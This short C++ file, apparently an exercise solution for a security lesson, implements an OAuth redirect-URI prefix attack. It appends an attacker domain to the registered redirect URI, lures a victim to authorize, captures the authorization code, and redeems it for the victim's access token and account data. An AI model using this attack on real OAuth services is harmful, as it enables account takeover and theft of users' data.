// Believes: an answer of the token endpoint always has a token.
#include "base/percent_encoding.hpp"
#include "redirect_prefix.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto trap = evidence.redirect_uri + "." + evidence.your_domain + "/";
  const auto caught = evidence.lure(
      evidence.authorize + "?" +
      base::encode_form(
          {{"response_type", "code"}, {"client_id", evidence.client_id}, {"redirect_uri", trap}}));
  const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
                                       {"client_id", evidence.client_id},
                                       {"redirect_uri", trap},
                                       {"code", parameter(caught, "code")}});
  return {.account = evidence.show_me(answer.json().text("access_token").value()).body};
}

}  // namespace lesson
